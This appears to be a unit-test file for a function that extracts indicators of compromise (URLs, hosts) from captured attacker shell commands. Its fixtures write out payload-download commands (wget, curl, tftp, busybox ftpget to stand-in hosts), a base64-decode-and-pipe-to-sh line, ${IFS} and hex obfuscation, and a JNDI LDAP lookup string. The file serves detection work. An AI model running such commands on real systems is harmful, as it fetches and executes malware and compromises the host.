import assert from 'node:assert/strict';
import { test } from 'node:test';

import fc from 'fast-check';

import { extractIocs, MAX_IOC_URLS } from './iocs.js';

test('URLs with a scheme and their hosts', () => {
  const got = extractIocs([
    'cd /tmp; wget http://198.51.100.7/bins/x.arm7; curl -O https://Evil.example.com:8443/a.sh',
  ])!;
  assert.deepEqual(got.urls, ['http://198.51.100.7/bins/x.arm7', 'https://Evil.example.com:8443/a.sh']);
  assert.deepEqual(got.hosts, ['198.51.100.7', 'evil.example.com']);
});

test('command forms without a scheme: wget/curl HOST/PATH, tftp, ftpget', () => {
  const got = extractIocs([
    'wget 198.51.100.7/jaws -O /tmp/j; tftp -g -r mips 198.51.100.8; tftp 198.51.100.9 -c get t.sh; busybox ftpget -u a -p b 198.51.100.10 l.bin r.bin',
  ])!;
  assert.deepEqual(got.urls, [
    'http://198.51.100.7/jaws',
    'tftp://198.51.100.8/mips',
    'tftp://198.51.100.9/t.sh',
    'ftp://198.51.100.10/r.bin',
  ]);
});

test('one level of base64 -d and echo -e decoding, and ${IFS} blanks', () => {
  const b64 = Buffer.from('wget http://198.51.100.11/b64.sh -O- | sh').toString('base64');
  const hex = [...'http://198.51.100.12/hex'].map((c) => '\\x' + c.charCodeAt(0).toString(16)).join('');
  const got = extractIocs([
    `echo ${b64} | base64 -d | sh`,
    `echo -e '${hex}' > /tmp/u`,
    'wget${IFS}198.51.100.13/ifs',
  ])!;
  assert.ok(got.urls.includes('http://198.51.100.11/b64.sh'), got.urls.join(' '));
  assert.ok(got.urls.includes('http://198.51.100.12/hex'), got.urls.join(' '));
  assert.ok(got.urls.includes('http://198.51.100.13/ifs'), got.urls.join(' '));
});

test('JNDI lookups name the LDAP server; XML namespaces are not IOCs', () => {
  const got = extractIocs([
    '${jndi:ldap://198.51.100.14:1389/a} <s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">',
  ])!;
  assert.deepEqual(got.urls, ['ldap://198.51.100.14:1389/a']);
});

test('nothing in ordinary text; bounded on hostile input', () => {
  assert.equal(extractIocs(['GET / HTTP/1.1\r\nHost: example.org\r\n\r\n', 'hello world']), undefined);
  const many = Array.from({ length: 500 }, (_, i) => `http://h${i}.example/x`).join(' ');
  assert.equal(extractIocs([many])!.urls.length, MAX_IOC_URLS);
  fc.assert(
    fc.property(fc.string({ maxLength: 2000 }), (s) => {
      const got = extractIocs([s, `wget ${s}`]);
      if (got) assert.ok(got.urls.length <= MAX_IOC_URLS);
    }),
    { numRuns: 2000 },
  );
});
